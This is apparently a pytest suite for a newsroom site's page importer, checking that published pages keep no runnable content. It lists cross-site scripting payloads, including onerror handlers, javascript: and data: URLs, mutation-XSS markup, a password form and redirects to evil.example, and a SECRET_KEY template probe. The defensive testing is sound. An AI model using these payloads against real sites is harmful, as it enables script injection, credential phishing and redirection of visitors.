"""Promise: nothing a stranger sends runs. Whatever stands in a saved page, the page that readers get has none of it."""

from __future__ import annotations

import re
from html import escape
from pathlib import Path

import pytest
from lxml import html

from wireroom.articles.intake import Placing, take_in
from wireroom.articles.models import Section
from wireroom.imports.saved_page import NotAStory, read_page
from wireroom.press.edition import Edition
from wireroom.press.following import fill

pytestmark = pytest.mark.django_db(transaction=True)

VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<a href='javascript:alert(1)'>link</a>",
    "<a href=' jAvA\tscript:alert(1)'>link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<p style='background:url(javascript:alert(1))'>styled</p>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<form action='https://evil.example'><input name=password></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "{{ settings.SECRET_KEY }} {% load static %}",
    "<embed embedtype='image' id='1' format='left' alt='x'/>",
    "<a linktype='page' id='1'>internal</a>",
)
COPY = "".join(
    f"<p>Paragraph {number} tells how the wall held through a long night of storm.</p>" for number in range(4)
)
HOSTILE = '"><script>alert(1)</script><img src=x onerror=alert(1)>'


def saved(vector: str) -> bytes:
    return (
        f"<html><head><title>Wall holds</title></head><body><article><h1>Wall holds {vector}</h1>"
        f"<p class=byline>By Ada Quill</p>{COPY}<p>Before {vector} after</p>{COPY}"
        f"<p>Credit: Northern Wire</p></article></body></html>"
    ).encode()


def active_parts(page: bytes) -> list[str]:
    """What could run in a page, other than the theme's own script file and the data block."""
    tree = html.fromstring(page)
    found = [
        element.tag for element in tree.iter("iframe", "object", "embed", "svg", "math", "base", "style", "template")
    ]
    found += [
        script.get("src", "inline") for script in tree.iter("script") if script.get("type") != "application/ld+json"
    ]
    found += [name for element in tree.iter() for name in element.attrib if name.lower().startswith("on")]
    found += [
        link for link in tree.xpath("//@href | //@src") if re.match(r"\s*(javascript|data|vbscript):", link, re.I)
    ]
    found += [form.get("action") for form in tree.iter("form") if not (form.get("action") or "/").startswith("/")]
    found += [meta.get("content") for meta in tree.iter("meta") if meta.get("http-equiv", "").lower() == "refresh"]
    return [part for part in found if not part.startswith("/static/reader/")]


@pytest.mark.parametrize("vector", [*VECTORS, HOSTILE])
def test_the_page_holds_nothing_that_runs(edition_folder: Path, vector: str) -> None:
    section = Section.objects.create(name="City", slug="city")
    try:
        story = read_page(saved(vector), name="page")
    except NotAStory:
        return
    article = take_in(story, Placing(section, publish=True)).article
    fill()
    page = Edition(edition_folder).file(article.get_absolute_url()).read_bytes()
    assert b"through a long night" in page
    assert active_parts(page) == []
    assert b"SECRET_KEY" not in page or b"{{ settings.SECRET_KEY }}" in page


def test_a_page_with_something_active_would_be_noticed() -> None:
    assert len(active_parts(b"<p onclick=x>a</p><script src='https://evil.example/x.js'></script><svg></svg>")) == 3


def test_facts_of_a_page_are_text_wherever_they_are_shown(edition_folder: Path) -> None:
    section = Section.objects.create(name="City", slug="city")
    fact = escape(HOSTILE)
    page = (
        f'<html><head><title>Wall {fact}</title><meta name="description" content="{fact}"></head><body><article>'
        f'<h1>Wall holds {fact}</h1><p class="standfirst">Standfirst {fact}</p><figure><img src="a.jpg" alt="{fact}">'
        f'<figcaption>Caption {fact} <span class="credit">Photo: Mara {fact} / Harbour</span></figcaption></figure>'
        f"{COPY}{COPY}<p>Credit: Northern {fact}</p></article></body></html>"
    )
    article = take_in(read_page(page.encode(), name="page"), Placing(section, "Source", publish=True)).article
    assert HOSTILE in article.headline
    fill()
    for path in (article.get_absolute_url(), "/", "/section/city/"):
        assert active_parts(Edition(edition_folder).file(path).read_bytes()) == [], path
